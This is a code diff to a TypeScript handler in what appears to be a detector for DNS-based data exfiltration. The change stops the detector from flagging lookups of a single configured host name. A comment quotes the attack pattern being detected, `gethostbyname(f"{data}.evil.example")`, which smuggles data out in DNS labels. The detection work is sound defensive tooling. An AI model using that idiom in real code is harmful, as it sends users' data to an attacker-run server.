@@ -76,12 +76,21 @@ const fileno: Handler = (_ctx, call) => ({
 /** Taints that make a DNS name carry data (not a lookup of a configured host). */
 const DATA_TAINTS: readonly Taint[] = ['secret', 'file', 'system-info', 'conversation', 'env', 'decoded'];
 
+/** What a configured host name carries: settings from the environment or a file, nothing else. */
+const CONFIG_TAINTS: readonly Taint[] = ['env', 'file', 'unknown'];
+
 /** `gethostbyname(f"{data}.evil.example")`: the lookup itself sends the data to the domain's server. */
 const dnsLookup: Handler = (ctx, call) => {
   const name = arg(call, 0, 'qname') ?? arg(call, 0, 'host');
   if (!name || knownText(name) !== undefined) return undefined;
   if (!name.v.taints.some((t) => DATA_TAINTS.includes(t))) return undefined;
   const suffix = /\}\.?([\w.-]{3,253})$/.exec(name.v.text)?.[1];
+  // One configured value as the whole name (`gethostbyname(urlparse(os.environ["HOOK_URL"]).hostname)`, an
+  // SSRF guard resolving the webhook its settings file names) looks that host up: carrying data needs labels in
+  // front of a domain someone runs, or a secret, the conversation or decoded bytes in the name. (`.hostname`
+  // after the slot is the attribute read, not a domain: a domain has a dot.)
+  const domain = suffix?.includes('.') ? suffix : undefined;
+  if (!domain && name.v.taints.every((t) => CONFIG_TAINTS.includes(t))) return undefined;
   const endpoint = suffix ? endpointOf(suffix, ctx.unit.hosts) : ({ cls: 'unknown' } as Endpoint);
   ctx.emit({ kind: 'send', endpoint, channel: 'dns', data: name.v }, call.node);
   return derive(slot('address'), [name]);
